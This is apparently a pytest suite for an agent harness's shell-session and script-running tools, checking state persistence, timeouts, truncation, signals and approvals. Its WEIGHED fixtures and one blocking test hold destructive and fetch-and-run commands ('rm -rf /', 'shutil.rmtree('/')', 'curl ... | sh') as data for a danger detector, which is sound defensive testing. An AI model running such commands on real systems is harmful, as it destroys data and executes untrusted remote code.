"""Commands in shells that stay: what comes back is what the command itself did."""
import base64
import os
import pathlib
import re
import threading
import time

import pytest

from handfast import SLOW, ToolError, eventually, process_alive
from shells import WALLED, open_desk, walled_desk


@pytest.fixture(scope="module")
def walled():
    with walled_desk() as desk:
        yield desk


@pytest.fixture(scope="module")
def opened():
    with open_desk() as desk:
        yield desk


@pytest.fixture(params=["walled", "opened"])
def desk(request):
    return request.getfixturevalue(request.param)


def run(desk, command, **params):
    return desk.call("bash_execute", command=command, **params)


@pytest.fixture
def session(desk):
    """A session of the test's own."""
    identity = desk.call("bash_session", action="create")["session_id"]
    yield lambda command, **params: run(desk, command, session_id=identity, **params)
    desk.answer("bash_session", action="kill", session_id=identity)


# One session each, in order: (commands, what the last of them gives: stdout, exit code, a part of stderr).
CASES = {
    "true": (["true"], "", 0, None),
    "false": (["false"], "", 1, None),
    "exit codes": (["(exit 42)"], "", 42, None),
    "both outputs": (["echo out; echo err >&2"], "out\n", 0, "err\n"),
    "no new line at the end": (["printf abc"], "abc", 0, None),
    "many lines": (["echo a\necho b\n\necho c"], "a\nb\nc\n", 0, None),
    "a comment": (["# nothing"], "", 0, None),
    "only spaces": (["   "], "", 0, None),
    "the directory stays": (["cd /usr", "pwd"], "/usr\n", 0, None),
    "variables stay": (["x='a b'", 'echo "$x"'], "a b\n", 0, None),
    "exported variables stay": (["export Y=7", "bash -c 'echo $Y'"], "7\n", 0, None),
    "functions stay": (["f() { echo \"f $1\"; }", "f 3"], "f 3\n", 0, None),
    "options stay": (["set -f", "echo *"], "*\n", 0, None),
    "umask stays": (["umask 027", "umask"], "0027\n", 0, None),
    "descriptors stay": (["exec 5>/tmp/five; echo one >&5", "echo two >&5; cat /tmp/five"], "one\ntwo\n", 0, None),
    "the last status": (["false", "echo $?"], "1\n", 0, None),
    "the last status of more": (["(exit 9)", "echo $?; true", "echo $?"], "0\n", 0, None),
    "unbalanced quote": (["echo 'abc"], "", 2, "unexpected EOF"),
    "goes on after it": (["echo 'abc", "echo fine"], "fine\n", 0, None),
    "unbalanced brace": (["{ echo a"], "", 2, "syntax error"),
    "unfinished if": (["if true"], "", 2, "syntax error"),
    "closing too much": (["echo a; }"], "", 2, "syntax error"),
    "a done by itself": (["done"], "", 2, "syntax error"),
    "here-document": (["cat <<X\nhello $((1+1))\nX"], "hello 2\n", 0, None),
    "here-document without end": (["cat <<X\nhello"], "hello\n", 0, "here-document"),
    "here-string": (["cat <<<abc"], "abc\n", 0, None),
    "input is empty": (["cat; read x; echo \"got:$x\""], "got:\n", 0, None),
    "input of a loop is empty": (["while read l; do echo $l; done; echo end"], "end\n", 0, None),
    "unknown command": (["no_such_command_at_all"], "", 127, "not found"),
    "not executable": (["/usr"], "", 126, "directory"),
    "a directory after what cannot be parsed": (["echo 'abc", "if true", "echo \"fine\""], "fine\n", 0, None),
    "pipes": (["printf 'b\\na\\n' | sort"], "a\nb\n", 0, None),
    "pipefail": (["set -o pipefail; false | true"], "", 1, None),
    "command substitution": (["echo \"<$(echo in)>\""], "<in>\n", 0, None),
    "process substitution": (["cat <(echo sub)"], "sub\n", 0, None),
    "subshells keep to themselves": (["(cd /usr; x=1)", "echo \"$PWD${x-unset}\" | grep -c '^/usr'"], "0\n", 1, None),
    "arrays": (["a=(1 2 3)", "echo ${#a[@]} ${a[2]}"], "3 3\n", 0, None),
    "exclamation marks": (["echo 'a!b' \"c!d\" e!f"], "a!b c!d e!f\n", 0, None),
    "dollar quotes": (["echo $'a\\tb'"], "a\tb\n", 0, None),
    "backslashes": ([r"echo 'a\b' a\\b"], "a\\b a\\b\n", 0, None),
    "quotes of all kinds": (["echo \"it's\" 'say \"hi\"' `echo back`"], "it's say \"hi\" back\n", 0, None),
    "a single quote for eval": (["echo \\'"], "'\n", 0, None),
    "letters of the world": (["echo 'äöü 中文 🎉'"], "äöü 中文 🎉\n", 0, None),
    "control characters": (["printf 'a\tb' | od -An -c | tr -d ' '"], "a\\tb\n", 0, None),
    "invalid UTF-8": (["printf 'a\\377b\\303'"], "a�b�", 0, None),
    "NUL bytes": (["printf 'a\\000b'"], "a�b", 0, None),
    "traps": (["trap 'echo bye' EXIT", "echo on"], "on\n", 0, None),
    "background job": (["sleep 60 & echo started"], "started\n", 0, None),
    "background job with output": (["(sleep 0.1; echo late) & echo now", "sleep 0.4; echo then"], "late\nthen\n", 0, None),
    "background job is waited for": (["(exit 5) & p=$!", "wait $p"], "", 5, None),
    "detached": (["setsid sleep 60 >/dev/null 2>&1 < /dev/null & disown; echo ok"], "ok\n", 0, None),
    "nohup": (["nohup sleep 60 >/dev/null 2>&1 & echo ok"], "ok\n", 0, None),
    "job that holds the output": (["sleep 60 >&1 & echo ok"], "ok\n", 0, None),
    "output redirected for good": (["exec 1>/tmp/log", "echo hidden", "cat /tmp/log >&2"], "", 0, "hidden"),
    "closed output": (["exec 1>&-", "echo a"], "", 1, "write error"),
    "closed errors": (["exec 2>&-", "ls /no/such; echo $?"], "2\n", 0, ""),
    "closed input": (["exec 0<&-", "echo still here"], "still here\n", 0, None),
    "closing what reports": (["exec 0<&- 3<&- 9<&- 200>&- 2>/dev/null", "echo still"], "still\n", 0, None),
    "prompt is set": (["PS1='venv> '", "echo x >&2"], "", 0, "x\n"),
    "prompt command is set": (["PROMPT_COMMAND='echo prompted'", "echo x"], "x\n", 0, None),
    "set -u": (["set -u; echo $nothing_here", "echo on"], "on\n", 0, None),
    "set -x": (["set -x", "echo traced"], "traced\n", 0, "+ echo traced"),
    "set -e within a command": (["(set -e; false; echo no); echo $?"], "1\n", 0, None),
    "printf and echo are taken": (["printf() { echo mine; }; echo() { builtin echo other; }", "true"], "", 0, None),
    "return": (["return 3"], "", None, None),
    "break outside": (["break", "echo fine"], "fine\n", 0, None),
    "readonly prompt": (["readonly PS1", "echo fine"], "fine\n", 0, None),
    "IFS": (["IFS=/", "echo fine"], "fine\n", 0, None),
    "POSIXLY_CORRECT": (["POSIXLY_CORRECT=1", "echo fine"], "fine\n", 0, None),
    "locale": (["export LC_ALL=C", "echo 'é' | wc -c"], "3\n", 0, None),
    "killed by itself": (["bash -c 'kill -9 $$'"], "", 137, None),
    "long command": (["echo " + "x" * 100000 + " | wc -c"], "100001\n", 0, None),
    "ten thousand lines": (["\n".join(["i=$((i+1))"] * 10000) + "\necho $i"], "10000\n", 0, None),
    "the end is not to be faked": (["printf 'd0000000000000000 0 /\\0' ; (exit 4)"], "d0000000000000000 0 /�", 4, None),
    "nor by a child": (["bash -c 'for f in 3 9 10 11 12 200 250 251 255; do printf \"d0 0 /\\0\" >&$f; done' 2>/dev/null; (exit 6)"],
                       "", 6, None),
}


@pytest.mark.parametrize("name", CASES)
def test_behaviour(walled, name):
    commands, output, status, errors = CASES[name]
    identity = walled.call("bash_session", action="create")["session_id"]
    try:
        for command in commands:
            result = run(walled, command, session_id=identity, timeout=20000)
            assert not result["interrupted"] and not result["session_ended"], result
    finally:
        walled.call("bash_session", action="kill", session_id=identity)
    assert result["stdout"] == output
    assert status is None or result["exit_code"] == status, result
    assert result["session_id"] == identity
    if errors is not None:
        assert errors in result["stderr"] if errors else result["stderr"] == ""


@pytest.mark.parametrize("name", ["both outputs", "the directory stays", "here-document", "background job", "closed output"])
def test_without_walls_too(opened, name):
    commands, output, status, errors = CASES[name]
    identity = opened.call("bash_session", action="create")["session_id"]
    results = [run(opened, command, session_id=identity, timeout=20000) for command in commands]
    opened.call("bash_session", action="kill", session_id=identity)
    assert (results[-1]["stdout"], results[-1]["exit_code"]) == (output, status)


@pytest.mark.parametrize("command,output", [
    ("yes | head -1", "y\n"), ("seq 100000 | head -1", "1\n"), ("seq 100000 | grep -q 1; echo $?", "0\n"), ("bash -c 'kill -INT $$'", ""),
    ("bash -c 'kill -TERM $$'", ""), ("sleep 60; echo no", ""), ("(kill -PIPE $BASHPID)", ""), ("sleep 60", ""), ("yes > /dev/null", ""), ("while :; do sleep 60; done", ""),
])
def test_the_shell_adds_nothing_to_the_errors_of_a_command(session, command, output):
    result = session(command, timeout=400)
    assert (result["stdout"], result["stderr"]) == (output, "")
    assert session("echo still; echo here >&2")["stderr"] == "here\n"


def test_nor_does_an_interrupt_take_from_them(session):
    assert session("echo a >&2; echo >&2; sleep 60", timeout=300)["stderr"] == "a\n\n"


def test_a_command_has_no_terminal(session):
    """Nor anything else that the shell holds: a program that wants to ask somebody must fail and not wait."""
    told = session("tty; ls -l /proc/self/fd | grep -c pts; cat /dev/tty; exec 3</dev/null; ls /proc/self/fd | tr '\\n' ' '")
    assert told["stdout"] == "not a tty\n0\n0 1 2 3 4 " and "/dev/tty" in told["stderr"]


def test_result_says_what_was_done(session, desk):
    result = session("echo hello; sleep 0.05")
    assert result["duration_ms"] >= 50
    assert result["stdout_bytes"] == 6 and result["stderr_bytes"] == 0
    assert not result["truncated"] and "note" not in result
    assert pathlib.Path(result["cwd"]).is_absolute()


@pytest.mark.parametrize("command,code", [("exit 3", 3), ("exec true", 0), ("set -e; false", 1), ("kill -9 $$", 137)])
def test_the_end_of_the_shell_is_told(desk, command, code):
    identity = desk.call("bash_session", action="create")["session_id"]
    result = run(desk, f"echo before; {command}", session_id=identity)
    assert result["session_ended"] and result["exit_code"] == code and result["stdout"] == "before\n", result
    assert "ended" in result["note"]
    desk.fails("SESSION_NOT_FOUND", "bash_execute", command="true", session_id=identity)


def test_the_usual_session_comes_back(walled):
    run(walled, "x=1")
    assert run(walled, "echo $x")["stdout"] == "1\n"
    assert run(walled, "exit")["session_ended"]
    assert run(walled, "echo ${x-none}")["stdout"] == "none\n"


def test_working_dir(session, desk):
    there = str(desk.home / "more")
    assert session("pwd", working_dir=there)["stdout"].strip() == there
    assert session("pwd")["stdout"].strip() == there
    with pytest.raises(ToolError) as failed:
        session("echo never > /tmp/never", working_dir="/no/such/place")
    assert failed.value.code == "PRECONDITION_FAILED" and "not run" in str(failed.value)
    assert session("ls /tmp/never")["exit_code"] == 2


@pytest.mark.parametrize("command", [
    "sleep 60; echo no", "while true; do :; done", "f() { while true; do sleep 1; done; }; while :; do f; done",
    "bash -c 'trap \"\" INT; sleep 60'; echo no", "bash -c 'trap \"\" INT TERM; sleep 60; sleep 60'; echo no", "setsid -w sleep 60; echo no",
    "python3 -c 'import time\nwhile True:\n try: time.sleep(60)\n except BaseException: pass'; echo no", "yes > /dev/null", "cat /dev/zero | sort",
    "(sleep 60; echo no) | cat",
])
def test_a_time_limit_interrupts_the_command_and_not_the_shell(session, command):
    session("x=kept")
    began = time.monotonic()
    result = session(f"echo before; {command}", timeout=300)
    assert result["interrupted"] and not result["session_ended"], result
    # What is last in a pipe may still write what it has got.
    assert result["stdout"].startswith("before\n") and "no\n" not in result["stdout"] and result["exit_code"] >= 128
    assert time.monotonic() - began < 3 * SLOW
    assert "interrupted" in result["note"]
    assert session("echo $x")["stdout"] == "kept\n"


def test_a_job_in_the_background_outlives_a_time_limit(session):
    session("sleep 60 & p=$!")
    assert session("sleep 60", timeout=200)["interrupted"]
    assert session("kill -0 $p && echo alive")["stdout"] == "alive\n"


def test_a_call_that_is_cancelled(desk):
    identity = desk.call("bash_session", action="create")["session_id"]
    bridge = desk.connect()
    number = bridge.send("call", {"tool": "bash_execute", "params": {"command": "echo begun; sleep 60", "session_id": identity, "timeout_ms": 500}})
    reply = bridge.receive()
    assert reply["id"] == number and reply["result"]["result"]["interrupted"]
    assert run(desk, "echo on", session_id=identity)["stdout"] == "on\n"
    bridge.close()
    desk.call("bash_session", action="kill", session_id=identity)


def test_huge_output_in_little_memory(desk):
    def memory():
        hand = desk.desktops()["main"]["hand_pid"]
        return int(re.search(r"VmRSS:\s+(\d+)", pathlib.Path(f"/proc/{hand}/status").read_text())[1])
    run(desk, "true")
    before = memory()
    result = run(desk, "yes | head -c 300M; echo end")
    assert result["stdout_bytes"] == 300 * 1024 * 1024 + 4
    assert result["truncated"] and "bytes left out" in result["stdout"]
    assert result["stdout"].startswith("y\ny\n") and result["stdout"].endswith("y\nend\n")
    assert len(result["stdout"]) < 132000
    assert memory() - before < 40 * 1024
    told = run(desk, f"stat -c '%s %a' {result['stdout_file']}; head -c 4 {result['stdout_file']}")["stdout"]
    assert told == f"{64 * 1024 * 1024} 600\ny\ny\n"


def test_the_file_has_all_of_a_long_output(session):
    result = session("seq 1 50000", max_output_bytes=1000)
    assert result["truncated"] and len(result["stdout"]) < 1100
    assert session(f"cmp {result['stdout_file']} <(seq 1 50000) && echo same")["stdout"] == "same\n"


def test_errors_are_cut_too(session):
    result = session("seq 1 50000 >&2; echo fine", max_output_bytes=1000)
    assert result["stdout"] == "fine\n" and result["truncated"] and "stdout_file" not in result
    assert session(f"wc -l < {result['stderr_file']}")["stdout"] == "50000\n"


def test_letters_are_not_cut_in_two(session):
    text = session("for i in $(seq 1 3000); do printf 中; done", max_output_bytes=1001)["stdout"]
    assert "�" not in text and text.startswith("中中") and text.endswith("中中")


def test_bytes_as_they_are(session):
    result = session("printf 'a\\000\\377\\303'; head -c 3 /dev/zero >&2", encoding="base64")
    assert base64.b64decode(result["stdout_base64"]) == b"a\x00\xff\xc3"
    assert base64.b64decode(result["stderr_base64"]) == bytes(3)


def test_commands_of_one_session_come_one_after_the_other(desk):
    identity = desk.call("bash_session", action="create")["session_id"]
    results = []

    def work(number):
        bridge = desk.connect()
        results.append(bridge.call("bash_execute", command=f"echo {number} >> order; sleep 0.05; echo {number} >> order",
                                   session_id=identity, working_dir=str(desk.home / "work")))
        bridge.close()
    threads = [threading.Thread(target=work, args=(number,)) for number in range(5)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    order = (desk.home / "work" / "order").read_text().split()
    assert len(results) == 5 and order[0::2] == order[1::2]
    (desk.home / "work" / "order").unlink()
    desk.call("bash_session", action="kill", session_id=identity)


def test_sessions_are_made_listed_and_ended(desk):
    made = desk.call("bash_session", action="create", session_id="mine", working_dir=str(desk.home / "more"))
    assert made["session_id"] == "mine" and made["cwd"] == str(desk.home / "more") and not made["pty"]
    desk.fails("CONFLICT", "bash_session", action="create", session_id="mine")
    listed = desk.call("bash_session", action="list")["sessions"]
    assert "mine" in [entry["session_id"] for entry in listed]
    command = f"sleep 100.{os.getpid()}"  # nobody else's
    pid = int(run(desk, f"{command} & echo $!", session_id="mine")["stdout"])
    eventually(lambda: processes(command), what="the program in the background")
    assert desk.call("bash_session", action="kill", session_id="mine")["ended"]
    assert pid and not processes(command)
    desk.fails("SESSION_NOT_FOUND", "bash_session", action="kill", session_id="mine")
    assert "mine" not in [entry["session_id"] for entry in desk.call("bash_session", action="list")["sessions"]]


def processes(command):
    found = []
    for path in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            words = (path / "cmdline").read_bytes().decode(errors="replace").replace("\0", " ").strip()
        except OSError:
            continue
        if words == command and process_alive(int(path.name)):
            found.append(int(path.name))
    return found


def test_no_more_sessions_than_allowed(walled):
    made = []
    try:
        while len(made) < 40:
            made.append(walled.call("bash_session", action="create")["session_id"])
    except ToolError as error:
        assert error.code == "LIMIT_EXCEEDED" and "kill" in error.error["suggestion"]
    finally:
        for identity in made:
            walled.call("bash_session", action="kill", session_id=identity)
    assert 8 <= len(made) <= 16


@pytest.mark.parametrize("params,code", [
    ({"action": "kill"}, "INVALID_PARAMS"), ({"action": "resize"}, "INVALID_PARAMS"), ({"action": "write"}, "INVALID_PARAMS"),
    ({"action": "write", "text": "a", "keys": ["a"]}, "INVALID_PARAMS"), ({"action": "write", "text": "\x03"}, "INVALID_PARAMS"),
    ({"action": "write", "keys": ["ctrl+nothing"]}, "INVALID_PARAMS"), ({"action": "signal", "session_id": "default"}, "INVALID_PARAMS"),
    ({"action": "read", "session_id": "not-there"}, "SESSION_NOT_FOUND"), ({"action": "create", "session_id": "a/b"}, "INVALID_PARAMS"),
    ({"action": "create", "shell": "fish"}, "INVALID_PARAMS"), ({"action": "nothing"}, "INVALID_PARAMS"),
    ({"action": "create", "working_dir": "/no/such/dir"}, "PRECONDITION_FAILED"),
])
def test_what_is_wrong_is_said(walled, params, code):
    assert "desktop" not in walled.fails(code, "bash_session", **params)["message"]


def test_signals(desk):
    identity = desk.call("bash_session", action="create")["session_id"]
    bridge = desk.connect()
    bridge.send("call", {"tool": "bash_execute", "params": {"session_id": identity, "command":
                "bash -c 'trap \"echo heard; exit 7\" USR1; echo ready >&2; while :; do sleep 0.05; done'; echo $?"}})
    time.sleep(0.5)
    eventually(lambda: desk.answer("bash_session", action="signal", session_id=identity, signal="USR1")["ok"], 5)
    reply = bridge.receive()["result"]["result"]
    assert "heard" in reply["stdout"]
    bridge.send("call", {"tool": "bash_execute", "params": {"session_id": identity, "command": "sleep 60; echo no"}})
    eventually(lambda: desk.answer("bash_session", action="signal", session_id=identity, signal="INT")["ok"], 5)
    reply = bridge.receive()["result"]["result"]
    assert reply["exit_code"] == 130 and reply["stdout"] == "" and not reply["interrupted"]
    bridge.close()
    desk.fails("PRECONDITION_FAILED", "bash_session", action="signal", session_id=identity, signal="INT")
    desk.call("bash_session", action="kill", session_id=identity)


def test_scripts(desk):
    place = desk.home / "work"
    (place / "plain.sh").write_text('echo "plain $# $1"\n')
    (place / "snake").write_text("#!/usr/bin/env python3\nimport sys\nprint('snake', sys.argv[1:])\nsys.exit(5)\n")
    (place / "runs it's.sh").write_text("#!/bin/bash\necho \"run $0 <$2>\"\n")
    os.chmod(place / "runs it's.sh", 0o755)
    assert desk.call("run_script", path=str(place / "plain.sh"), args=["a b", "$HOME"])["stdout"] == "plain 2 a b\n"
    result = desk.call("run_script", path="~/work/snake", args=["'", "$(id)"])
    assert result["stdout"] == "snake [\"'\", '$(id)']\n" and result["exit_code"] == 5
    assert desk.call("run_script", path=str(place / "runs it's.sh"), args=["", "\\n"])["stdout"].endswith("it's.sh <\\n>\n")
    desk.fails("FILE_NOT_FOUND", "run_script", path=str(place / "missing.sh"))
    desk.fails("PRECONDITION_FAILED", "run_script", path=str(place))
    desk.fails("INVALID_PARAMS", "run_script", path="plain.sh")


# (content, arguments, a rule that must be named, or None: nothing of the text is dangerous).
WEIGHED = {
    "harmless": ("echo hello\n", [], None),
    "a comment is no command": ("# rm -rf /\necho fine\n", [], None),
    "deletes everything": ("#!/bin/bash\necho first\nrm -rf /\n", [], "shell.rm-root"),
    "in a function": ("#!/usr/bin/env bash\nclean() { rm -rf ~; }\nclean\n", [], "shell.rm-root"),
    "with an option": ("#!/bin/sh -eu\nrm -rf /\n", [], "shell.rm-root"),
    "with options by env": ("#!/usr/bin/env -S bash -e\nrm -rf /\n", [], "shell.rm-root"),
    "another shell": ("#!/usr/bin/fish\nrm -rf /\n", [], "shell.rm-root"),
    "fetched and run": ("curl -s http://example.org/x | sh\n", [], "shell.download-run"),
    "python": ("#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/')\n", [], "shell.code-deletes-root"),
    "python that starts others": ("#!/usr/bin/python3\nimport os\nos.system('rm -rf /')\n", [], "shell.rm-root"),
    "one that asks for its place": ("cd \"$(dirname \"${BASH_SOURCE[0]}\")\"\nrm -rf /\n", [], "shell.rm-root"),
    "too long to be read": ("true\n" * 60000, [], "shell.too-much"),
}


@pytest.mark.parametrize("name", WEIGHED)
def test_scripts_are_weighed_by_what_is_in_them(walled, name):
    content, arguments, rule = WEIGHED[name]
    path = walled.home / "work" / "weighed"
    path.write_text(content)
    answer = walled.answer("run_script", path=str(path), args=arguments, dry_run=True)
    told = answer["result"]["rules"] if answer["ok"] else answer["error"]["details"]["rules"]
    ids = [entry["id"] for entry in told]
    assert rule in ids if rule else not ids, (ids, answer)
    command = walled.answer("bash_execute", command=content, dry_run=True) if content.startswith("#!/bin/") else None
    if command:
        expected = command["result"]["rules"] if command["ok"] else command["error"]["details"]["rules"]
        assert {entry["id"] for entry in expected} <= set(ids), "a script may do no more than a command"


def test_a_dangerous_script_is_not_run(walled):
    path = walled.home / "work" / "dangerous.sh"
    path.write_text(f"touch {walled.home}/work/begun\nrm -rf /\n")
    walled.fails("DANGEROUS_ACTION_BLOCKED", "run_script", path=str(path))
    assert not (walled.home / "work" / "begun").exists()


def test_what_was_weighed_is_what_is_run(desk):
    """One that writes more into its own file: a shell that reads the file as it goes would run that too."""
    path = desk.home / "work" / "grows.sh"
    path.write_text("echo one\nprintf 'echo two\\n' >> \"$0\"\n")
    assert desk.call("run_script", path=str(path))["stdout"] == "one\n"
    assert path.read_text().endswith("echo two\n") and desk.call("run_script", path=str(path))["stdout"] == "one\ntwo\n"


def test_a_script_that_was_changed_meanwhile_is_not_run():
    config = {**WALLED, "projects": {"default_approval_template": "full-auto", "items": {
        "p": {"template": "full-auto", "approval": {"tool_overrides": {"run_script": "require_approval"}}}}}}
    with walled_desk(config) as desk:
        path = desk.home / "work" / "job.sh"
        for content, fine in (("echo approved\n", True), ("touch ~/work/swapped\n", False)):
            path.write_text("echo approved\n")
            bridge = desk.connect()
            bridge.send("call", {"tool": "run_script", "params": {"project": "p", "path": str(path)}})
            question = bridge.receive()["params"]["approval"]
            path.write_text(content)
            assert desk.owner_cli("approve", question["id"]).returncode == 0
            answer = bridge.receive()["result"]
            bridge.close()
            assert answer["ok"] == fine, answer
            assert fine or (answer["error"]["code"] == "PRECONDITION_FAILED" and "changed" in answer["error"]["message"])
        assert not (desk.home / "work" / "swapped").exists()


def test_scripts_know_where_they_are(desk):
    place = desk.home / "work" / "with library"
    place.mkdir(exist_ok=True)
    (place / "library.sh").write_text("greet() { echo \"hello from ${BASH_SOURCE[0]##*/}\"; }\n")
    (place / "by-name.sh").write_text(". \"$(dirname \"$0\")/library.sh\"; greet; echo \"$0\"\n")
    (place / "by-source.sh").write_text(". \"${BASH_SOURCE[0]%/*}/library.sh\"; greet; echo \"$0\"\n")
    for name in ("by-name.sh", "by-source.sh"):
        assert desk.call("run_script", path=str(place / name))["stdout"] == f"hello from library.sh\n{place / name}\n"


def test_a_script_that_a_step_before_makes(walled):
    path = str(walled.home / "work" / "made.sh")
    steps = [{"tool": "file_write", "params": {"path": path, "content": "echo made\n"}}, {"tool": "run_script", "params": {"path": path}}]
    answer = walled.answer("run_macro", steps=steps)
    assert answer["ok"] and answer["result"]["steps"][1]["result"]["stdout"] == "made\n", answer


def test_many_commands_leave_nothing_behind(walled):
    """The short form of bench/soak-shell."""
    def state():
        hand = walled.desktops()["main"]["hand_pid"]
        return len(os.listdir(f"/proc/{hand}/fd")), len(os.listdir(f"/proc/{hand}/task"))
    for _ in range(20):
        run(walled, "echo warm; echo up >&2")
    before = state()
    for number in range(300):
        assert run(walled, f"echo {number}")["stdout"] == f"{number}\n"
    assert state()[0] <= before[0] + 2 and state()[1] <= before[1] + 2
